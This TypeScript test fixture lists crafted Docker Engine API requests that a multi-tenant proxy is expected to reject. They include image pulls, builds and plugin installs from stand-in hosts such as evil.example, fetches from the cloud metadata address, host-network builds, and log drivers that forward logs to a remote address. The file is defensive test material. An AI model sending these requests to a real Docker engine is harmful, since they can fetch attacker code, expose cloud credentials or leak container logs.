import type { Attack } from '../attack';
import { createContainer, withHost } from '../bodies';

const credential = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Requests that the engine would make for whoever asks it, to wherever they say. */
export const engineRequests: readonly Attack[] = [
  ...[
    [
      'an import from a URL',
      'POST /v1.41/images/create?fromSrc=http://10.99.0.1/x.tar&repo={my.image.repository}',
    ],
    ['an import from nowhere', 'POST /v1.41/images/create?fromSrc=&repo={my.image.repository}'],
    ['an import and a pull at once', 'POST /v1.41/images/create?fromSrc=http://10.99.0.1/&fromImage=busybox'],
    ['a build of a URL', 'POST /v1.41/build?remote=http://10.99.0.1/&t={my.image.repository}:2'],
    ['a build of a repository', 'POST /v1.41/build?remote=git://10.99.0.1/x&t={my.image.repository}:2'],
    ['a build on the network of the node', 'POST /v1.41/build?networkmode=host&t={my.image.repository}:2'],
    [
      'a build in another container',
      'POST /v1.41/build?networkmode=container:{their.container.id}&t={my.image.repository}:2',
    ],
    ['a build with hosts', 'POST /v1.41/build?extrahosts=metadata:169.254.169.254&t={my.image.repository}:2'],
    ['a build with a parent of its group', 'POST /v1.41/build?cgroupparent=/&t={my.image.repository}:2'],
    ['a build by BuildKit', 'POST /v1.41/build?version=2&session=x&t={my.image.repository}:2'],
    ["another's build cancelled", 'POST /v1.41/build/cancel?id=x'],
    ['a search', 'GET /v1.41/images/search?term=10.99.0.1/x'],
    ['a pull from elsewhere', 'POST /v1.41/images/create?fromImage=10.99.0.1:80/x&tag=1'],
    [
      'a pull from the metadata of a cloud',
      'POST /v1.41/images/create?fromImage=169.254.169.254/latest&tag=1',
    ],
    ['a pull of a URL', 'POST /v1.41/images/create?fromImage=http://10.99.0.1/x&tag=1'],
    ['a pull with a user', 'POST /v1.41/images/create?fromImage=docker.io@10.99.0.1/x&tag=1'],
    ['a pull from a host in capitals', 'POST /v1.41/images/create?fromImage=EVIL.example/x&tag=1'],
    ['a pull from a host of one letter', 'POST /v1.41/images/create?fromImage=e/x:1&tag=2'],
    ['a pull with two names', 'POST /v1.41/images/create?fromImage=busybox:1&tag=2'],
    ['a pull that climbs', 'POST /v1.41/images/create?fromImage=docker.io/../../10.99.0.1/x&tag=1'],
    ...['10.99.0.1', 'evil.example', 'localhost'].flatMap((host) => {
      const name = `docker.io/${host}/x`;
      return [
        [
          `a pull of ${name}, which engines call ${host}/x`,
          `POST /v1.41/images/create?fromImage=${name}&tag=1`,
        ],
        [`a pull of index.${name}`, `POST /v1.41/images/create?fromImage=index.${name}&tag=1`],
        [`a pull of all of ${name}`, `POST /v1.41/images/create?fromImage=${name}`],
        [`a distribution of ${name}`, `GET /v1.41/distribution/${name}/json`],
        [`a push of ${name}`, `POST /v1.41/images/${name}/push?tag=1`],
        [`a search in ${name}`, `GET /v1.41/images/search?term=${name}`],
        [`a search in index.${name}`, `GET /v1.41/images/search?term=index.${name}`],
        [`the name ${name} for one's own`, `POST /v1.41/images/{my.image.name}/tag?repo=${name}&tag=1`],
        [`an import as ${name}`, `POST /v1.41/images/create?fromSrc=-&repo=${name}&tag=1`],
        [`a commit as ${name}`, `POST /v1.41/commit?container={my.stopped.id}&repo=${name}&tag=1`],
        [`a build of ${name}`, `POST /v1.41/build?t=${name}:1`],
      ];
    }),
    ['a search behind a search', 'GET /v1.41/images/search?term=docker.io/10.99.0.1:80/x'],
    ['a distribution elsewhere', 'GET /v1.41/distribution/10.99.0.1:80/x/json'],
    ['a distribution of a cloud', 'GET /v1.41/distribution/169.254.169.254/latest/json'],
    ['a push elsewhere', 'POST /v1.41/images/10.99.0.1:80/x/push?tag=1'],
    ['a session', 'POST /v1.41/session'],
    ['a raw connection', 'POST /v1.41/grpc'],
    ['the inside of the engine', 'GET /v1.41/debug/pprof/heap'],
    ['the variables of the engine', 'GET /v1.41/debug/vars'],
    ['the metrics of the engine', 'GET /metrics'],
    ['plugins', 'GET /v1.41/plugins/privileges?remote=10.99.0.1/x'],
    ['a plugin pulled', 'POST /v1.41/plugins/pull?remote=10.99.0.1/x'],
    ['a plugin made', 'POST /v1.41/plugins/create?name={new}'],
    ['a plugin enabled', 'POST /v1.41/plugins/x/enable?timeout=1'],
    ['a plugin pushed', 'POST /v1.41/plugins/x/push'],
    ['a plugin set', 'POST /v1.41/plugins/x/set'],
    ['a plugin upgraded', 'POST /v1.41/plugins/x/upgrade?remote=10.99.0.1/x'],
    ['a plugin removed', 'DELETE /v1.41/plugins/x?force=1'],
  ].map(([name, send]): Attack => ({ name: name as string, send: send as string, answer: [400, 403, 404] })),
  // Nobody here has a cache of their own: there is nothing to prune.
  { name: 'a build cache', send: 'POST /v1.41/build/prune?all=1', answer: [200, 403] },
  {
    name: 'signing in elsewhere',
    send: 'POST /v1.41/auth',
    body: { username: 'x', password: 'y', serveraddress: 'http://10.99.0.1/' },
    answer: [400, 403],
  },
  {
    name: "signing in to the node's own address",
    send: 'POST /v1.41/auth',
    body: { username: 'x', password: 'y', serveraddress: 'http://127.0.0.1:2375/' },
    answer: [400, 403],
  },
  ...[
    ['for another host', { username: 'x', password: 'y', serveraddress: '10.99.0.1:80' }],
    ['for no host', { username: 'x', password: 'y' }],
    ['with a field of no meaning', { username: 'x', password: 'y', realm: 'http://10.99.0.1/' }],
  ].map(
    ([name, value]): Attack => ({
      name: `a credential ${name}`,
      send: 'POST /v1.41/images/create?fromImage={registry}/busybox&tag=latest',
      headers: { 'x-registry-auth': credential(value as object) },
      answer: 400,
    }),
  ),
  {
    name: 'a credential that is none',
    send: 'POST /v1.41/images/create?fromImage={registry}/busybox&tag=latest',
    headers: { 'x-registry-auth': 'not base64 of anything' },
    answer: 400,
  },
  ...[
    'syslog',
    'gelf',
    'fluentd',
    'splunk',
    'awslogs',
    'gcplogs',
    'logentries',
    'journald',
    'etwlogs',
    'x/y',
  ].map(
    (Type): Attack => ({
      name: `a log driver that sends: ${Type}`,
      send: createContainer,
      body: withHost({ LogConfig: { Type, Config: { 'gelf-address': 'udp://10.99.0.1:1' } } }),
      answer: 400,
    }),
  ),
  ...[
    { 'max-size': '1m', tag: '{{.ImageName}}{{.DaemonName}}' },
    { env: 'WORD', labels: 'x' },
    { 'max-file': '../../x' },
    { 'cache-disabled': 'false', 'syslog-address': 'tcp://10.99.0.1:1' },
  ].map(
    (Config): Attack => ({
      name: `a log option ${Object.keys(Config)[0]}`,
      send: createContainer,
      body: withHost({ LogConfig: { Type: 'json-file', Config } }),
      answer: 400,
    }),
  ),
];
